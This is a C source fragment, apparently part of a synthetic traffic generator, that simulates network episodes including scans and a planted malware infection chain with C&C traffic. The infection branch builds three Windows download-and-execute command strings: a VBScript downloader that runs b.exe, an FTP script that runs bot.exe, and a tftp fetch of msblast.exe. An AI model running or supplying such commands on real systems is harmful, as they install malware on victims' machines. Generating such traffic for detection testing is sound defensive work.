	 * within 30 s of the last one is a failed attempt instead */
	if (r >= 560 && r < 580 && synst.last_chain != 0 &&
	    t < synst.last_chain + 30 * SEC)
		r = 400;
	if (r < 330)
		ep_scan(t);
	else if (r < 560) {
		pick_attacker(&h, pick_af());
		ep_infection(t, &h, 0);
	} else if (r < 580) {
		/* a successful infection, a planted episode (bh-story): the
		 * exploit, the shell it opened with the download order, the
		 * download that order names, C&C */
		af = pick_af();
		pick_attacker(&h, af);
		synst.cur_episode = ++synst.n_episodes;
		synst.last_chain = t;
		t = ep_infection(t, &h, 1);
		t += range(SEC, 5 * SEC);
		r = below(100);
		if (r < 50) {
			char dom[64];
			const char *path = http_paths[below(7)];

			/* its own name, as its own server */
			snprintf(dom, sizeof(dom), "upd%u.%s",
			    (unsigned)synst.cur_episode, domains[1 + below(5)]);
			pick_http(&srv, af);
			snprintf(cmd, sizeof(cmd), "echo Set x=CreateObject(\"MSXML2."
			    "XMLHTTP\"):x.Open \"GET\",\"http://%s%s\",0:x.Send:"
			    "Set s=CreateObject(\"ADODB.Stream\"):s.Open:s.Type=1:"
			    "s.Write x.responseBody:s.SaveToFile \"b.exe\",2 > "
			    "d.vbs&cscript //nologo d.vbs&start b.exe", dom, path);
			t = ep_shell(t, &h, cmd);
			t = dl_http_at(t + range(SEC, 3 * SEC), &srv, dom, path);
		} else if (r < 80) {
			uint16_t port;
			int botftp;
			char a[INET6_ADDRSTRLEN];

			ftp_pick(&h, &srv, &port, &botftp);
			addr_fmt(a, srv.af, srv.addr);
			snprintf(cmd, sizeof(cmd), "echo open %s %u > o&echo "
			    "user 1 1 >> o&echo binary >> o&echo get bot.exe >> "
			    "o&echo bye >> o&ftp -n -s:o&del o&bot.exe", a,
			    (unsigned)port);
			t = ep_shell(t, &h, cmd);
			t = dl_ftp(t + range(SEC, 3 * SEC), &srv, port, botftp);
		} else {
			char a[INET6_ADDRSTRLEN];

			addr_fmt(a, h.af, h.addr);
			snprintf(cmd, sizeof(cmd), "tftp -i %s GET msblast.exe&"
			    "start msblast.exe", a);
			t = ep_shell(t, &h, cmd);
			t = dl_tftp(t + range(SEC, 3 * SEC), &h);
		}
		ep_cnc(t + range(2 * SEC, 20 * SEC), af);
		synst.cur_episode = 0;
	} else if (r < 590 && room >= 8)
		dl_http(t, pick_af());
	else if (r < 600 && room >= 8)
		ep_cnc(t, pick_af());
	else if (r < 610)
		ep_attack(t);
	else if (r < 740) {
		pick_http(&h, 4);
		ep_dns(t, domains[below(6)], h.addr);
	}
	else if (r < 880)
		ep_netbios(t);
	else
		ep_arp(t);
}
